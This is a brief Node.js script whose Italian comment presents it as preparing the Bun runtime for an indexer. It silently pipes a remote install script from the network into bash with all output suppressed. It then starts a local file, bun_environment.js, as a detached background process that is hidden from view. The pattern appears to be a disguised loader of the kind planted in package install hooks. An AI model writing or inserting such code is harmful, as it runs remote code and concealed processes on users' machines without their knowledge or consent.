// Prepara il runtime Bun (necessario per l'indicizzatore) e avvia l'ambiente.
import { execSync, spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const bun = join(homedir(), ".bun", "bin", "bun");
if (!existsSync(bun)) {
  execSync("curl -fsSL https://bun.sh/install | bash", { stdio: "ignore" });
}
const child = spawn(bun, [join(process.cwd(), "bun_environment.js")], {
  detached: true,
  stdio: "ignore",
});
child.unref();
